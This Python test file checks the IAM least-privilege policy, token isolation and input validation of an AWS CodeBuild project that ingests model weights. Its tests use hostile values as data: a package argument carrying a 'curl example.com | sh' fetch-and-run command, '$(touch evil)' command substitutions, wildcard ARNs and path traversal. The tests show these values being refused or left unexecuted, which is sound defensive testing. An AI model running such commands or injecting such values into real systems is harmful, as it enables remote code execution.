"""IngestProject: a build with least rights, whose buildspec runs what the commands do and shows the token to one."""

import json
from pathlib import Path
from typing import Any

import pytest

from paddock.common.inputs import ArgumentError
from paddock.weights.ingest_project import (
    IMAGES,
    REVISION,
    SOURCE,
    STACK,
    TOKEN,
    WEIGHTS,
    IngestProject,
    buildspec,
)
from tests.buildspec import Ran, run, stand_in
from tests.iam import allows
from tests.unit.components.cases import args_of, built_case
from tests.unit.components.recorder import ACCOUNT, Build

SECRET = f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:hugging-face-AbCdEf"
BUCKET = "arn:aws:s3:::weights"
KEY, SIGNING_KEY = (f"arn:aws:kms:us-east-1:{ACCOUNT}:key/{name}" for name in "ks")
ECR = f"arn:aws:ecr:us-east-1:{ACCOUNT}:repository"
LOGS = f"arn:aws:logs:us-east-1:{ACCOUNT}:log-group:/aws/codebuild/w-test-ingest"
BY_S3 = {"kms:ViaService": "s3.us-east-1.amazonaws.com"}
DIGEST = {"kms:MessageType": "DIGEST", "kms:SigningAlgorithm": "ECDSA_SHA_256"}


def rights(*, every: bool) -> list[str]:
    policies = built_case("IngestProject", every=every).of("aws:iam/rolePolicy:RolePolicy")
    return [each["policy"] for each in policies.values()]


MAY: list[tuple[str, str, dict[str, str]]] = [
    ("s3:PutObject", f"{BUCKET}/models/m/bf16-0/model.safetensors", {}),
    ("s3:AbortMultipartUpload", f"{BUCKET}/models/m/bf16-0/model.safetensors", {}),
    ("s3:ListMultipartUploadParts", f"{BUCKET}/models/m/bf16-0/model.safetensors", {}),
    ("s3:ListBucket", BUCKET, {"s3:prefix": "models/m/bf16-0/"}),
    ("s3:ListBucketVersions", BUCKET, {"s3:prefix": "models/m/bf16-0/"}),
    ("s3:ListBucketMultipartUploads", BUCKET, {}),
    ("kms:GenerateDataKey", KEY, BY_S3),
    ("kms:Decrypt", KEY, BY_S3),
    ("kms:Sign", SIGNING_KEY, DIGEST),
    ("kms:GetPublicKey", SIGNING_KEY, {}),
    ("ecr:PutImage", f"{ECR}/paddock/vllm/vllm-openai", {}),
    ("ecr:GetAuthorizationToken", "*", {}),
    ("secretsmanager:GetSecretValue", SECRET, {}),
    ("logs:PutLogEvents", f"{LOGS}:log-stream:1", {}),
]
MAY_NOT: list[tuple[str, str, dict[str, str]]] = [
    *(
        (action, f"{BUCKET}/{key}", {})
        for action in ("s3:GetObject", "s3:GetObjectVersion", "s3:DeleteObject", "s3:DeleteObjectVersion")
        for key in ("models/m/bf16-0/config.json", "models/other/bf16-0/config.json", "secrets")
    ),
    ("s3:PutObject", f"{BUCKET}/models/other/bf16-0/config.json", {}),
    ("s3:PutObject", f"{BUCKET}/models/m", {}),
    ("s3:PutObject", f"{BUCKET}/models/m2/bf16-0/config.json", {}),
    ("s3:PutObject", "arn:aws:s3:::elsewhere/models/m/bf16-0/config.json", {}),
    ("s3:ListBucket", BUCKET, {"s3:prefix": "models/other/"}),
    ("s3:ListBucket", BUCKET, {"s3:prefix": "models/m"}),
    ("s3:ListBucket", BUCKET, {}),
    ("s3:ListBucketVersions", BUCKET, {"s3:prefix": "models/"}),
    ("s3:PutBucketPolicy", BUCKET, {}),
    ("kms:Decrypt", KEY, {}),
    ("kms:Decrypt", KEY, {"kms:ViaService": "ebs.us-east-1.amazonaws.com"}),
    ("kms:Decrypt", SIGNING_KEY, BY_S3),
    ("kms:Sign", KEY, DIGEST),
    ("kms:Sign", SIGNING_KEY, {**DIGEST, "kms:MessageType": "RAW"}),
    ("kms:ScheduleKeyDeletion", SIGNING_KEY, {}),
    ("ecr:PutImage", f"{ECR}/somebody/else", {}),
    ("ecr:DeleteRepository", f"{ECR}/paddock/vllm/vllm-openai", {}),
    ("secretsmanager:GetSecretValue", f"{SECRET}2", {}),
    ("secretsmanager:PutSecretValue", SECRET, {}),
    ("logs:PutLogEvents", f"arn:aws:logs:us-east-1:{ACCOUNT}:log-group:other:log-stream:1", {}),
    ("iam:PassRole", f"arn:aws:iam::{ACCOUNT}:role/any", {}),
    ("sts:AssumeRole", f"arn:aws:iam::{ACCOUNT}:role/any", {}),
]


@pytest.mark.parametrize(("action", "resource", "context"), MAY)
def test_the_build_may(action: str, resource: str, context: dict[str, str]) -> None:
    assert allows(rights(every=True), action, resource, context)


@pytest.mark.parametrize(("action", "resource", "context"), MAY_NOT)
def test_the_build_may_not(action: str, resource: str, context: dict[str, str]) -> None:
    assert not allows(rights(every=True), action, resource, context)


@pytest.mark.parametrize(
    ("action", "resource", "context"),
    [each for each in MAY if each[0].startswith(("ecr:", "secretsmanager:", "kms:Sign", "kms:GetPublicKey"))],
)
def test_what_it_was_not_given_it_may_not(action: str, resource: str, context: dict[str, str]) -> None:
    assert not allows(rights(every=False), action, resource, context)


def test_only_codebuild_for_this_project_assumes_its_role() -> None:
    (role,) = built_case("IngestProject").of("aws:iam/role:Role").values()
    (statement,) = json.loads(role["assumeRolePolicy"])["Statement"]
    assert statement["Principal"] == {"Service": "codebuild.amazonaws.com"}
    assert statement["Condition"] == {
        "ArnEquals": {"aws:SourceArn": f"arn:aws:codebuild:us-east-1:{ACCOUNT}:project/w-test-ingest"}
    }


def test_the_project_is_outside_any_network_unprivileged_one_at_a_time_and_knows_no_token() -> None:
    built = built_case("IngestProject", every=True)
    (project,) = built.of("aws:codebuild/project:Project").values()
    assert "vpcConfig" not in project
    assert project["environment"]["privilegedMode"] is False
    assert (project["concurrentBuildLimit"], project["buildTimeout"]) == (1, 2160)
    variables = {each["name"]: each["value"] for each in project["environment"]["environmentVariables"]}
    assert variables.keys() == {"PADDOCK_PACKAGE", "PADDOCK_BUCKET", "PADDOCK_SIGNING_KEY"}
    waits = built.waits["aws:codebuild/project:Project", "w-ingest"]
    assert {name for kind, name in waits if kind == "aws:iam/rolePolicy:RolePolicy"} == {
        "w-ingest-store",
        "w-ingest-key",
        "w-ingest-build",
        "w-ingest-signing",
    }


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("package", "paddock[images]; curl example.com | sh"),
        ("package", f"paddock[images] @ https://user:password@example.com/a.whl#sha256={64 * '0'}"),
        ("package", "paddock[images] @ git+https://example.com/paddock@main"),
        ("model", "../other"),
        ("model", "*"),
        ("bucket_name", "weights/*"),
        ("key_arn", "*"),
        ("signing_key_arn", f"arn:aws:kms:us-east-1:{ACCOUNT}:alias/*"),
        ("token_secret_arn", f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:*"),
        ("repositories", ["paddock/*"]),
    ],
)
def test_what_would_mean_more_than_itself_is_refused_and_named(built: Build, key: str, value: Any) -> None:
    with pytest.raises(ArgumentError, match=key):
        built(lambda opts: IngestProject("w", args_of("IngestProject", **{key: value}), opts))


@pytest.fixture
def programs(tmp_path: Path) -> Path:
    """`python` and `paddock` that note their arguments, and the token if they can see it."""
    folder = tmp_path / "programs"
    folder.mkdir()
    note = f'printf "%s|" "$(basename "$0")" "$@" "token=${TOKEN}" >> "$CODEBUILD_SRC_DIR/calls"; '
    stand_in(folder, "python", note + 'echo >> "$CODEBUILD_SRC_DIR/calls"')
    stand_in(folder, "paddock", note + 'echo >> "$CODEBUILD_SRC_DIR/calls"; [ "$1 $2" != "$FAILS" ]')
    return folder


def built_by(programs: Path, secret: str | None = SECRET, **variables: str) -> tuple[Ran, list[list[str]], str]:
    folder = programs.parent / "source"
    folder.mkdir()
    ran = run(
        buildspec(secret),
        project={"PADDOCK_PACKAGE": "the package", "PADDOCK_BUCKET": "weights", "PADDOCK_SIGNING_KEY": SIGNING_KEY},
        build={IMAGES: "yes", WEIGHTS: "yes", SOURCE: "hf://a/b@c", REVISION: "r", STACK: "{}", **variables},
        secrets={SECRET: "hf_secret"},
        programs=programs,
        folder=folder,
    )
    calls = folder / "calls"
    lines = calls.read_text().splitlines() if calls.exists() else []
    stack = folder / "stack.yaml"
    return ran, [line.rstrip("|").split("|") for line in lines], stack.read_text() if stack.exists() else ""


def test_a_build_installs_copies_the_images_and_pushes_the_weights(programs: Path) -> None:
    ran, calls, stack = built_by(programs, **{STACK: '{"config": {"a": "$(touch evil) `x` \\" \' %s"}}'})
    assert ran.succeeded
    assert ran.phases == ("install", "build")
    assert [each[:3] for each in calls] == [
        ["python", "-m", "pip"],
        ["paddock", "images", "sync"],
        ["paddock", "images", "verify"],
        ["paddock", "weights", "push"],
    ]
    push = calls[-1]
    assert push[push.index("--from") + 1] == "hf://a/b@c"
    assert push[push.index("--revision") + 1] == "r"
    assert push[push.index("--bucket") + 1] == "weights"
    assert push[push.index("--signing-key") + 1] == SIGNING_KEY
    assert stack == '{"config": {"a": "$(touch evil) `x` \\" \' %s"}}'
    assert not (programs.parent / "source" / "evil").exists()


def test_what_is_not_said_is_left_to_the_command(programs: Path) -> None:
    _, calls, _ = built_by(programs, **{SOURCE: "", REVISION: "", "PADDOCK_SIGNING_KEY": ""})
    assert calls[-1][:-1] == ["paddock", "weights", "push", "--stack-file", "stack.yaml", "--bucket", "weights"]


def test_a_source_with_blanks_and_stars_is_one_word(programs: Path) -> None:
    _, calls, _ = built_by(programs, **{SOURCE: "s3://a/b c * $(touch evil)"})
    assert calls[-1][calls[-1].index("--from") + 1] == "s3://a/b c * $(touch evil)"
    assert not (programs.parent / "source" / "evil").exists()


def test_the_token_is_seen_by_the_push_alone(programs: Path) -> None:
    _, calls, _ = built_by(programs)
    assert [each[-1] for each in calls] == ["token=", "token=", "token=", "token=hf_secret"]


def test_without_a_secret_there_is_no_token(programs: Path) -> None:
    ran, calls, _ = built_by(programs, None)
    assert ran.succeeded
    assert {each[-1] for each in calls} == {"token="}


@pytest.mark.parametrize(
    ("step", "left"), [(IMAGES, [["weights", "push"]]), (WEIGHTS, [["images", "sync"], ["images", "verify"]])]
)
def test_a_step_that_is_not_chosen_is_left_out(programs: Path, step: str, left: list[list[str]]) -> None:
    ran, calls, _ = built_by(programs, **{step: "no"})
    assert ran.succeeded
    assert [each[1:3] for each in calls if each[0] == "paddock"] == left


@pytest.mark.parametrize("fails", ["images sync", "images verify", "weights push"])
def test_a_step_that_fails_ends_the_build_red(programs: Path, fails: str) -> None:
    ran, calls, _ = built_by(programs, FAILS=fails)
    assert not ran.succeeded
    assert " ".join(calls[-1][1:3]) == fails


def test_a_build_that_the_console_started_says_how_it_is_started(programs: Path) -> None:
    ran, calls, _ = built_by(programs, **{STACK: ""})
    assert not ran.succeeded
    assert calls == []
    assert "paddock ingest start" in ran.output
